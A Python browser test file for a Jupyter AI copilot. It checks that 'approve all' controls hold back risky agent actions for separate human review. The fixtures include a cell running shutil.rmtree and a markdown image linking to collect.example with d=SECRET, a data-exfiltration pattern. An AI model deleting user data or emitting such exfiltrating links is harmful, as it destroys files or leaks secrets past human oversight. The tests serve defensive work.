"""Approving several at once, in the sidebar and over the cells, leaves out what has to be looked at by itself."""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from jupyter_copilot.ports.notebook import version_of
from jupyter_copilot.testing.fault_server_thread import FaultServerThread
from jupyter_copilot.testing.replies import answer
from tests.browser.lab import Lab
from tests.browser.page import Person

PICTURE = "![](http://collect.example/?d=SECRET)"


def test_code_that_deletes_is_not_approved_with_the_others(
    lab: Lab, person: Callable[[str], Person], model: FaultServerThread
) -> None:
    notebook = lab.write("together.ipynb", "print('one')", "import shutil\nshutil.rmtree('gone')", "print('three')")
    runs = [("run_cell", {"cell_id": f"cell-{number}"}) for number in (1, 2, 3)]
    model.add(answer("Three.", calls=runs), answer("Done."))
    alice, bob = person("Alice").open(notebook), person("Bob").open(notebook)
    alice.ask("Run three!")
    expect(bob.panel.get_by_text("look at 1 and approve it by itself")).to_be_visible()
    expect(bob.panel.get_by_role("button", name="Approve all")).to_have_count(0)
    bob.panel.get_by_role("button", name="Approve the other 2").click()
    for each in (alice, bob):
        expect(each.cards).to_have_count(1)
        expect(each.cards.first).to_contain_text("deletes files or data")
    decided = lab.events(notebook, "confirmation_decided")
    assert [event["option"] for event in decided] == ["approve", "approve"]
    alice.approve()
    alice.sees("Done.")


def test_a_picture_from_afar_is_not_accepted_with_the_other_changes(
    lab: Lab, newcomer: Callable[[str], Person], model: FaultServerThread
) -> None:
    notebook = lab.write("pictures.ipynb", "x = 1", "y = 1")
    alice = newcomer("Alice").open(notebook)
    changes = [
        ("edit_cell", {"cell_id": "cell-1", "expected_version": version_of("x = 1"), "source": "x = 2"}),
        ("insert_cell", {"after": "cell-1", "source": PICTURE, "cell_type": "markdown"}),
        ("edit_cell", {"cell_id": "cell-2", "expected_version": version_of("y = 1"), "source": "y = 2"}),
    ]
    model.add(answer("Three.", calls=changes), answer("Done."))
    alice.ask("Tidy up!")
    bar = alice.page.get_by_role("toolbar", name="3 changes to review")
    expect(bar).to_contain_text("Accept 1 by itself")
    bar.get_by_role("button", name="Accept the others").click()
    left = alice.page.get_by_role("toolbar", name="1 change to review")
    expect(left).to_contain_text("Accept 1 by itself")
    expect(left.get_by_role("button", name="Accept")).to_have_count(0)
    assert len(lab.events(notebook, "confirmation_decided")) == 2
    proposal = alice.page.get_by_role("group", name="Add a new cell")
    expect(proposal).to_contain_text("collect.example")
    proposal.get_by_role("button", name="Accept").click()
    alice.sees("Done.")
    assert len(lab.events(notebook, "confirmation_decided")) == 3
